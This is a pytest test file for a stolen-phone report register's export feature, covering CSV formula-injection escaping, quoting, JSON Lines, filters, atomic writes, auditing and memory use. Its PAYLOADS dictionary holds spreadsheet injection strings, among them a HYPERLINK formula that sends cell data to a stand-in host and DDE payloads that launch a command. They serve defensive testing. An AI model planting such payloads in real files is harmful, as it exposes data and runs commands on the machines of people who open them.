"""Export: spreadsheet-safe CSV, raw JSON Lines, filters, atomic files, audit, flat memory."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from models.register import Register
from models.services.export import (
    BOM,
    COLUMNS,
    ExportFilter,
    ExportFormat,
    csv_cell,
)
from models.values.imei import Imei, luhn_check_digit
from models.values.phone import PhoneNumber
from models.values.statuses import Status
from tests import staff_fixtures
from tests.factories import audit_events, imei, new_report, set_report_columns
from tests.staff_fixtures import bulk_reports

cli_env = staff_fixtures.cli_env

ROOT = Path(__file__).resolve().parents[3]
T0 = datetime(2026, 3, 1, 12, 0, tzinfo=UTC)
PAYLOADS = {
    "contact_name": '=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
    "model": "+SUM(1+1)*cmd|' /C calc'!A0",
    "colour": "@cmd|' /C calc'!A0",
    "place": "-1+1",
    "network": "\tTAB=1",
    "tracked_place": "\rCR=1",
    "contact_email": "\nLF=1@example.org",
}


def leading_zero_imei() -> Imei:
    """A valid IMEI whose first digit is 0 (a spreadsheet would drop it if it took a number)."""
    body = "01234567890128"
    return Imei(body + luhn_check_digit(body))


async def export_text(
    register: Register,
    tmp_path: Path,
    export_format: ExportFormat = ExportFormat.CSV,
    selection: ExportFilter | None = None,
) -> str:
    """Export to a file and return its text (BOM kept, newlines untouched)."""
    target = tmp_path / f"out{export_format.suffix}"
    await register.export.to_file(
        target, export_format, selection or ExportFilter(), actor="test", channel="test"
    )
    return target.read_bytes().decode("utf-8")


def read_csv(content: str) -> list[dict[str, str]]:
    """The CSV's rows as dicts, read the way Python's csv module reads RFC 4180."""
    assert content.startswith(BOM)
    reader = csv.reader(io.StringIO(content.removeprefix(BOM), newline=""))
    header = next(reader)
    assert header == list(COLUMNS)
    return [dict(zip(header, row, strict=True)) for row in reader]


# --- CSV safety ---------------------------------------------------------------------------


async def test_injection_payloads_are_neutralised_cell_by_cell(
    register: Register, tmp_path: Path
) -> None:
    zero = leading_zero_imei()
    second = imei()
    filed = await register.reports.file(
        new_report(
            imeis=(zero, second),
            tracked_lat=51.52,
            tracked_lon=-0.07,
            tracked_at=T0,
            incident_at=T0 - timedelta(hours=1),
            **PAYLOADS,
        ),
        "k-payloads",
    )

    (row,) = read_csv(await export_text(register, tmp_path))

    for column, payload in PAYLOADS.items():
        assert row[column] == "'" + payload, column
    assert row["reference"] == filed.reference
    assert row["status"] == "submitted"
    # IMEIs stay text, leading zero included; phone numbers keep their + behind the quote.
    assert row["imei_1"] == zero.digits
    assert row["imei_1"].startswith("0")
    assert row["imei_2"] == second.digits
    assert row["stolen_number"] == "'+447400123456"
    assert row["contact_phone"] == "'+447912345678"
    # Our own numbers stay numbers, a negative longitude included.
    assert row["incident_lon"] == "-0.1494"
    assert row["tracked_lon"] == "-0.07"
    assert row["incident_at"] == "2026-03-01T11:00:00Z"
    assert row["tracked_at"] == "2026-03-01T12:00:00Z"
    assert row["own_account"] == "false"
    for column, cell in row.items():
        if column not in {"incident_lat", "incident_lon", "tracked_lat", "tracked_lon"}:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")), column


async def test_csv_is_rfc4180_with_bom_and_crlf(register: Register, tmp_path: Path) -> None:
    await register.reports.file(
        new_report(contact_name='Jo "JJ" O\'Neil, Jr.', place="line one\nline two"), "k-quote"
    )

    content = await export_text(register, tmp_path)

    assert content.startswith(BOM + '"reference","status",')
    assert content.endswith("\r\n")
    # Text is quoted, our numbers are not: importers that honour quotes keep IMEIs as text.
    assert ",51.5142,-0.1494," in content
    assert '"Jo ""JJ"" O\'Neil, Jr."' in content
    assert '"line one\nline two"' in content
    (row,) = read_csv(content)
    assert row["contact_name"] == 'Jo "JJ" O\'Neil, Jr.'
    assert row["place"] == "line one\nline two"


def test_csv_cell_rules() -> None:
    assert csv_cell(None) == ""
    assert csv_cell(True) == "true"
    assert csv_cell(-0.5) == -0.5
    assert csv_cell("-0.5") == "'-0.5"
    assert csv_cell("plain") == "plain"
    assert csv_cell("a=b") == "a=b"
    assert csv_cell("012345678901237") == "012345678901237"
    for trigger in ("=", "+", "-", "@", "\t", "\r", "\n"):
        assert csv_cell(trigger + "x") == "'" + trigger + "x"


async def test_jsonl_carries_raw_values(register: Register, tmp_path: Path) -> None:
    zero = leading_zero_imei()
    filed = await register.reports.file(
        new_report(imeis=(zero,), own_account=True, **PAYLOADS), "k-json"
    )

    content = await export_text(register, tmp_path, ExportFormat.JSONL)

    assert not content.startswith(BOM)
    (line,) = content.splitlines()
    row = json.loads(line)
    assert list(row) == list(COLUMNS)
    assert row["reference"] == filed.reference
    for column, payload in PAYLOADS.items():
        assert row[column] == payload
    assert row["imei_1"] == zero.digits
    assert row["imei_2"] is None
    assert row["incident_lat"] == 51.5142
    assert row["own_account"] is True
    assert row["contact_phone"] == "+447912345678"


async def test_report_without_optional_answers_exports_empty_cells(
    register: Register, tmp_path: Path
) -> None:
    from models.services.reports import NewReport

    await register.reports.file(
        NewReport(make="other", contact_name="Sam", contact_phone=PhoneNumber.parse("07912345678")),
        "k-min",
    )

    (row,) = read_csv(await export_text(register, tmp_path))

    for column in ("imei_1", "imei_2", "model", "incident_at", "incident_lat", "tracked_at"):
        assert row[column] == ""


# --- filters -------------------------------------------------------------------------------


async def test_filters_by_date_range_and_status(register: Register, tmp_path: Path) -> None:
    refs = {}
    for day in (1, 2, 3, 4):
        filed = await register.reports.file(new_report(), f"k-day-{day}")
        await set_report_columns(
            register.db, filed.reference, created_at=datetime(2026, 3, day, 9, tzinfo=UTC)
        )
        refs[day] = filed.reference
    await register.reports.change_status(refs[3], Status.LOCATED, actor="test")

    async def references(selection: ExportFilter) -> list[str]:
        content = await export_text(register, tmp_path, selection=selection)
        return [row["reference"] for row in read_csv(content)]

    assert await references(ExportFilter()) == [refs[1], refs[2], refs[3], refs[4]]
    since, until = datetime(2026, 3, 2, tzinfo=UTC), datetime(2026, 3, 4, tzinfo=UTC)
    assert await references(ExportFilter(since=since)) == [refs[2], refs[3], refs[4]]
    assert await references(ExportFilter(until=until)) == [refs[1], refs[2], refs[3]]
    assert await references(ExportFilter(since=since, until=until)) == [refs[2], refs[3]]
    assert await references(ExportFilter(status=Status.LOCATED)) == [refs[3]]
    assert await references(ExportFilter(since=since, status=Status.SUBMITTED)) == [
        refs[2],
        refs[4],
    ]
    assert await references(ExportFilter(status=Status.CLOSED)) == []


# --- atomic files and the audit -------------------------------------------------------------


async def test_failed_export_leaves_no_file_and_keeps_the_old_one(
    register: Register, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for n in range(3):
        await register.reports.file(new_report(), f"k-fail-{n}")
    folder = tmp_path / "exports"
    folder.mkdir()
    target = folder / "reports.csv"
    target.write_text("the previous export\n")
    calls = 0

    def failing_row(report):
        nonlocal calls
        calls += 1
        if calls == 2:
            raise RuntimeError("disk on fire")
        return original(report)

    import models.present.spreadsheet as csv_module

    original = csv_module.row_of
    monkeypatch.setattr(csv_module, "row_of", failing_row)

    with pytest.raises(RuntimeError):
        await register.export.to_file(
            target, ExportFormat.CSV, ExportFilter(), actor="test", channel="test"
        )

    assert target.read_text() == "the previous export\n"
    assert [path.name for path in folder.iterdir()] == ["reports.csv"]
    assert await audit_events(register.db, "export") == []


async def test_missing_folder_is_an_error_and_writes_nothing(
    register: Register, tmp_path: Path
) -> None:
    with pytest.raises(FileNotFoundError):
        await register.export.to_file(
            tmp_path / "missing" / "out.csv",
            ExportFormat.CSV,
            ExportFilter(),
            actor="test",
            channel="test",
        )
    assert not (tmp_path / "missing").exists()


async def test_every_export_is_audited_with_filters_and_row_count(
    register: Register, tmp_path: Path
) -> None:
    first = await register.reports.file(new_report(), "k-audit-1")
    await register.reports.file(new_report(), "k-audit-2")
    selection = ExportFilter(since=T0, status=Status.SUBMITTED)

    await register.export.to_file(
        tmp_path / "a.jsonl", ExportFormat.JSONL, selection, actor="cli:ann", channel="cli"
    )
    out = io.StringIO()
    await register.export.to_stream(
        out, ExportFormat.CSV, ExportFilter(), actor="tg:42", channel="telegram"
    )

    events = await audit_events(register.db, "export")
    assert [(e.actor, e.target) for e in events] == [("cli:ann", None), ("tg:42", None)]
    assert json.loads(events[0].details) == {
        "channel": "cli",
        "format": "jsonl",
        "rows": 2,
        "since": "2026-03-01T12:00:00Z",
        "until": None,
        "status": "submitted",
    }
    assert json.loads(events[1].details)["rows"] == 2
    # The audit trail holds no personal data from the exported rows.
    for event in events:
        assert first.reference not in event.details
        assert "Alex" not in event.details


# --- constant memory ------------------------------------------------------------------------

# VmHWM is this process's own peak RSS; ru_maxrss would carry over the (larger) parent's
# peak through fork and exec.
PROBE = """
import sys
from bot.cli import main
code = main(["export", "--format", sys.argv[1], "-o", sys.argv[2]])
with open("/proc/self/status") as status:
    peak = next(line for line in status if line.startswith("VmHWM:"))
print(peak.split()[1], file=sys.stderr)
sys.exit(code)
"""


def peak_rss_of_export(env: dict[str, str], target: Path, export_format: str) -> tuple[int, int]:
    """Run `reportbot export` in a fresh process: (peak RSS in KiB, rows written)."""
    result = subprocess.run(
        [sys.executable, "-c", PROBE, export_format, str(target)],
        env={**os.environ, **env, "PYTHONPATH": str(ROOT)},
        capture_output=True,
        text=True,
        timeout=600,
        check=False,
    )
    assert result.returncode == 0, result.stderr
    peak_kib = int(result.stderr.strip().splitlines()[-1])
    with target.open("rb") as handle:
        lines = sum(1 for _ in handle)
    # Header lines: CSV and the block list have one; GeoJSON opens and closes its collection.
    rows = lines - {"csv": 1, "blocklist": 1, "geojson": 2}.get(export_format, 0)
    return peak_kib, rows


FLAT_FORMATS = ("csv", "geojson", "blocklist")


@pytest.mark.slow
async def test_100k_export_runs_in_flat_memory(
    register: Register, cli_env: dict[str, str], tmp_path: Path
) -> None:
    await bulk_reports(register, 10_000)
    await register.db.dispose()
    small = {f: peak_rss_of_export(cli_env, tmp_path / f"small.{f}", f) for f in FLAT_FORMATS}
    await bulk_reports(register, 90_000, first=10_000)
    await register.db.dispose()
    large = {f: peak_rss_of_export(cli_env, tmp_path / f"large.{f}", f) for f in FLAT_FORMATS}

    for export_format in FLAT_FORMATS:
        (small_kib, small_rows), (large_kib, large_rows) = (
            small[export_format],
            large[export_format],
        )
        assert (small_rows, large_rows) == (10_000, 100_000), export_format
        print(f"{export_format} peak RSS: 10,000 rows {small_kib} KiB, 100,000 {large_kib} KiB")
        # Ten times the rows may not cost more than a few MB of extra peak memory.
        assert large_kib - small_kib < 8 * 1024, export_format
